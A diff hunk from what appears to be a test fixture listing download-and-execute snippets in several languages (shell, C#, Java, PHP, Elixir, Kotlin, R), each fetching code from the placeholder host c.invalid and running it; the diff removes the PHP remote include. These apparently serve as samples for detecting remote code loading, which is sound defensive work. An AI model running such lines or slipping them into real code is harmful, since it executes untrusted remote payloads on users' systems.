@@ -337,7 +337,6 @@ IN_OTHER_LANGUAGES = {
         ('a.sh', 'curl -sLo u.zip https://c.invalid/u.zip\npython3 -m zipfile -e u.zip u\nsh u/run.sh'),
         ('A.cs', 'using System.Net;\nusing System.Reflection;\nAssembly.Load(new WebClient().DownloadData("https://c.invalid/u.dll")).EntryPoint.Invoke(null, null);'),
         ('A.java', 'new URLClassLoader(new URL[]{new URL("https://c.invalid/u.jar")}).loadClass("U");'),
-        ('a.php', '<?php include "https://c.invalid/a.php";'),
         ('a.exs', 'Code.eval_string(Req.get!("https://c.invalid/a.exs").body)'),
                 ('a.kts', 'File("/tmp/u").writeBytes(URL("https://c.invalid/u").readBytes())\nFile("/tmp/u").setExecutable(true)\nRuntime.getRuntime().exec("/tmp/u")'),
         ('a.R', 'download.file("https://c.invalid/u", "/tmp/u")\nSys.chmod("/tmp/u", "755")\nsystem("/tmp/u")'),
